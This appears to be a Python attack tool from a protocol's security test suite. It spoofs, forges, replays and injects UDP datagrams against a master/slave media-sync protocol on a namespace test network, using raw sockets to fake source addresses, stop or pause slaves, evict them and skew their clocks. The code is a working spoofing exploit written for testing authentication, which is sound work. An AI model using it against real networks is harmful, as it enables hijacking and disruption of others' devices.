#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# A forger on the namespace test network, for attacks.sh: it holds no key, hears what reaches its own host
# (broadcasts, and answers to what it sends itself) and sends datagrams under other hosts' source addresses,
# through a raw socket that writes the IP header itself. Run inside the forger's namespace.
#
#   watch ...         hears the master: its process id, unicast port, last sequence number and group go to
#                     a state file the other actions read; can record its broadcasts, ask it for its numbers,
#                     and send forged first copies of its next pauses
#   stop-screens ...  a stop and a pause to each slave with the master's address, process id and next numbers
#   evict ...         a stop of clock sync to a slave, then partner reports under its address and another pid
#   clock ...         clock answers to no request, each claiming a slave's clock off by a shift
#   replay ...        recorded datagrams sent again, byte for byte, from their own source address and port
#   junk ...          unsigned datagrams and datagrams signed with a key id or key the group does not use
import argparse
import hashlib
import hmac
import os
import select
import socket
import struct
import time

MAGIC = 0x55CC55CC
HEADER = struct.Struct("<IIHHHhHHHH")  # PROTOCOL.md: magic, pid, code, tag, group, layer, seq, lengths, padding
UNSIGNED_TAG, SIGNED_TAG = 0x0100, 0x0200
STOP, PAUSE, STOP_CLOCK_SYNC, CLOCK_ANSWER, PARTNER, HEARTBEAT = 303, 302, 309, 307, 201, 205
ETH_P_IP, PACKET_OUTGOING = 0x0800, 4
FORGED = b"forged"  # the user data of every forged command: the slaves' lines show it
# The evicting reports: a process id and source port of their own, and the pause between the forged stop
# of clock sync and the first report (past the 5 s after which a silent slave may be replaced).
EVICT_PID, EVICT_PORT, EVICT_AFTER_S = 31337, 41000, 5.5


def datagram(code, pid, group, seq, payload=b"", user_data=b"", layer=-1, tag=UNSIGNED_TAG):
    return HEADER.pack(MAGIC, pid, code, tag, group, layer, seq & 0xFFFF, len(payload), len(user_data), 0) + payload + user_data


class Spoofer:
    """Sends UDP datagrams with any source address out of eth0; broadcasts too (bound to the device, so
    that the kernel needs no route for 255.255.255.255 from an address that is not its own)."""

    def __init__(self):
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")

    def send(self, src, sport, dst, dport, data):
        udp = struct.pack("!HHHH", sport, dport, 8 + len(data), 0)  # checksum 0: none, as IPv4 allows
        # The kernel fills in the total length, the identification and the header checksum.
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        self.sock.sendto(ip + udp + data, (dst, 0))


def sniffer():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    sock.bind(("eth0", ETH_P_IP))
    return sock


def heard(sock):
    """The next UDP datagram that arrived on eth0: (src, sport, dst, dport, bytes), or None for another packet."""
    packet, address = sock.recvfrom(65535)
    if address[2] == PACKET_OUTGOING or len(packet) < 28 or packet[9] != socket.IPPROTO_UDP:
        return None
    ihl = (packet[0] & 0x0F) * 4
    sport, dport, length = struct.unpack_from("!HHH", packet, ihl)
    return (socket.inet_ntoa(packet[12:16]), sport, socket.inet_ntoa(packet[16:20]), dport,
            packet[ihl + 8:ihl + length])


def header_of(data):
    fields = HEADER.unpack_from(data) if len(data) >= HEADER.size else None
    return fields if fields and fields[0] == MAGIC else None


def read_state(path, timeout_s=10):
    """The master's numbers as the watcher last heard them: pid, unicast port, seq, group."""
    deadline = time.monotonic() + timeout_s
    while not os.path.exists(path):
        if time.monotonic() > deadline:
            raise SystemExit(f"forger: never heard the master (no {path})")
        time.sleep(0.02)
    with open(path) as f:
        return [int(word) for word in f.read().split()]


def write_state(path, pid, port, seq, group):
    with open(path + ".new", "w") as f:
        f.write(f"{pid} {port} {seq} {group}\n")
    os.replace(path + ".new", path)  # readers never see half a line


def watch(args):
    sock = sniffer()
    spoofer = Spoofer() if args.forge_ahead else None
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM) if args.ask_from else None
    if asker:
        asker.bind((args.ask_from, 0))
    record = open(args.record, "a") if args.record else None
    forged = set()
    next_ask = 0.0
    print("forger: listening", flush=True)
    while True:
        if asker and time.monotonic() >= next_ask:
            # Without a key the master answers anybody's heartbeat, and the answer carries its numbers.
            asker.sendto(datagram(HEARTBEAT, os.getpid(), args.group, 0), (args.master, args.port))
            next_ask = time.monotonic() + 0.1
        if not select.select([sock], [], [], 0.05)[0]:
            continue
        packet = heard(sock)
        if not packet or packet[0] != args.master:
            continue
        src, sport, dst, dport, data = packet
        header = header_of(data)
        if not header:
            continue
        _, pid, code, _, group, _, seq, _, _, _ = header
        write_state(args.state, pid, sport, seq, group)
        if record and dport == args.port:
            record.write(f"{src} {sport} {dst} {dport} {data.hex()}\n")
            record.flush()
        if spoofer:
            # Forged first copies of a pause under each of the next numbers, each sent twice against loss,
            # from a port of the forger's own (the slaves' acknowledgements go there, not to the master).
            # Their user data claims a later format, which a player leaves alone: what the forger is after
            # is the genuine pause that its copy would suppress.
            for target in sorted({(seq + ahead) & 0xFFFF for ahead in range(1, args.forge_ahead + 1)} - forged):
                forged.add(target)
                forgery = datagram(PAUSE, pid, group, target, bytes(8), b"v=999 " + FORGED)
                for _ in range(2):
                    spoofer.send(args.master, args.forger_port, "255.255.255.255", args.port, forgery)


def stop_screens(args):
    pid, mport, seq, group = read_state(args.state)
    spoofer = Spoofer()
    for slave in args.slaves.split(","):
        for code in (STOP, PAUSE):
            seq += 1
            spoofer.send(args.master, mport, slave, args.port, datagram(code, pid, group, seq, bytes(8), FORGED))
            print(f"forger: sent {code} seq={seq} to {slave} as {args.master}:{mport} pid {pid}", flush=True)


def evict(args):
    pid, mport, seq, group = read_state(args.state)
    spoofer = Spoofer()
    stop = datagram(STOP_CLOCK_SYNC, pid, group, seq + 1)
    for _ in range(3):  # copies of one datagram, against loss: the slave takes one
        spoofer.send(args.master, mport, args.slave, args.port, stop)
    print(f"forger: stopped the clock sync of {args.slave}", flush=True)
    time.sleep(EVICT_AFTER_S)
    capabilities = struct.pack("<HH", 1, 1)  # a slave that acknowledges, as a restarted player says
    for attempt in range(3):
        if attempt:
            time.sleep(1.2)  # past the second in which the master waits for an answer from the old one
        report = datagram(PARTNER, EVICT_PID, group, attempt, capabilities, layer=0)
        spoofer.send(args.slave, EVICT_PORT, args.master, mport, report)
        print(f"forger: partner report {attempt + 1} from {args.slave} pid {EVICT_PID}", flush=True)


def clock(args):
    pid, _, seq, group = read_state(args.state)
    spoofer = Spoofer()
    slaves = [(ip, int(port), int(offset)) for ip, port, offset in (s.split(":") for s in args.slave)]
    for _ in range(args.count):
        for ip, port, offset_us in slaves:
            # The slave's host clock, as a forger who once saw one of its requests knows it: the
            # machine's monotonic clock plus the offset the test gave that host.
            now = time.clock_gettime_ns(time.CLOCK_MONOTONIC) // 1000 + offset_us
            sent = now - 200
            received = sent - (offset_us + args.shift_us) + 100  # as if the slave's clock were off by the shift
            stamps = struct.pack("<qqqq", received, received + 50, sent, 0)  # a delay of about 100 us
            seq += 1
            spoofer.send(args.master, args.from_port, ip, port, datagram(CLOCK_ANSWER, pid, group, seq, stamps))
        time.sleep(0.025)
    print(f"forger: sent {args.count} clock answers to each of {len(slaves)} slaves", flush=True)


def replay(args):
    spoofer = Spoofer()
    codes = {int(c) for c in args.codes.split(",")}
    with open(args.file) as f:
        recorded = [line.split() for line in f]
    chosen = [(src, int(sport), dst, int(dport), bytes.fromhex(data)) for src, sport, dst, dport, data in recorded
              if header_of(bytes.fromhex(data))[2] in codes]
    for _ in range(args.times):  # the whole recording again, against loss
        for src, sport, dst, dport, data in chosen:
            spoofer.send(src, sport, dst, dport, data)
    print(f"forger: replayed {len(chosen)} datagrams {args.times} times", flush=True)


def junk(args):
    spoofer = Spoofer()
    wrong_key = os.urandom(32)
    # Sender after sender within each round: where a burst overflows a slow receiver's socket buffer, each
    # sender loses some of its datagrams, not one sender all of them.
    for n in range(args.count):
        for index, src in enumerate(args.sources.split(",")):
            sport = 50000 + index
            body = datagram(PAUSE, 4242, args.group, n, bytes(8), FORGED, tag=SIGNED_TAG)
            counter = time.time_ns() // 1000
            signed_part = struct.pack("<HBQ", sport, args.key_id, counter)
            mac = hmac.new(wrong_key, body + signed_part, hashlib.sha256).digest()[:16]
            unknown_id = bytes([args.key_id % 255 + 1]) + struct.pack("<Q", counter) + mac
            spoofer.send(src, sport, "255.255.255.255", args.port, datagram(PAUSE, 4242, args.group, n, bytes(8), FORGED))
            spoofer.send(src, sport, "255.255.255.255", args.port, body + unknown_id)
            spoofer.send(src, sport, "255.255.255.255", args.port, body + signed_part[2:] + mac)
    print(f"forger: sent {args.count} of each kind from {args.sources}", flush=True)


REQUIRED = object()
STATE, MASTER, PORT = ("--state", str, REQUIRED), ("--master", str, REQUIRED), ("--port", int, REQUIRED, "the group's port")
# Each action's options: (name, type, default or REQUIRED, help); a type of list takes the option many times.
ACTIONS = {
    "watch": (watch, [MASTER, PORT, STATE,
                      ("--record", str, None, "append the master's datagrams to the group's port to FILE"),
                      ("--ask-from", str, None, "ask the master for its numbers from this address (a heartbeat every 100 ms)"),
                      ("--group", int, 0, "the group of the heartbeats that ask"),
                      ("--forge-ahead", int, 0, "forge first copies of pauses this far ahead"),
                      ("--forger-port", int, 47999)]),
    "stop-screens": (stop_screens, [STATE, MASTER, PORT, ("--slaves", str, REQUIRED, "IP,IP,...")]),
    "evict": (evict, [STATE, MASTER, PORT, ("--slave", str, REQUIRED)]),
    # A port of the forger's own (the slave checks only the address), so that the slaves' lines about the
    # forged answers can be told from those about the master's.
    "clock": (clock, [STATE, MASTER, ("--slave", list, REQUIRED, "IP:UNICAST_PORT:CLOCK_OFFSET_US"),
                      ("--from-port", int, 47999), ("--shift-us", int, 30000), ("--count", int, 40)]),
    "replay": (replay, [("--file", str, REQUIRED), ("--codes", str, REQUIRED, "the message codes to play back, CODE,CODE,..."),
                        ("--times", int, 1)]),
    "junk": (junk, [PORT, ("--group", int, REQUIRED), ("--key-id", int, REQUIRED, "the id of the group's key"),
                    ("--sources", str, REQUIRED, "the source addresses, IP,IP,..."), ("--count", int, 50)]),
}


def main():
    parser = argparse.ArgumentParser(description="A forger on the namespace test network, for attacks.sh.")
    actions = parser.add_subparsers(dest="action", required=True)
    for action, (run, options) in ACTIONS.items():
        a = actions.add_parser(action)
        for name, kind, default, *help_text in options:
            how = {"action": "append"} if kind is list else {"type": kind}
            a.add_argument(name, **how, required=default is REQUIRED, default=None if default is REQUIRED else default,
                           help=help_text[0] if help_text else None)
        a.set_defaults(run=run)
    args = parser.parse_args()
    args.run(args)


if __name__ == "__main__":
    main()
